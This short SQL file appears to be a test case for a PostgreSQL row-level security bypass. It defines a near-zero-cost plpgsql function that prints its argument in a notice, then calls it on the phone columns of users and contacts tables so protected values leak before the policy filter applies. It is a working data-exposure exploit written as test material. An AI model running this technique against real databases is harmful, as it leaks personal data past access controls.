-- what: a function that costs next to nothing raises a notice with the value
-- known: bypasses.md: Leaky function pushed below the policy qual
-- purpose: service
CREATE FUNCTION shout(text) RETURNS boolean LANGUAGE plpgsql COST 0.0000001 AS $$ BEGIN RAISE NOTICE '%', $1; RETURN true; END $$;
SELECT 1 FROM users WHERE shout(phone);
SELECT 1 FROM users WHERE phone > '' AND shout(phone);
SELECT 1 FROM contacts WHERE shout(phone);
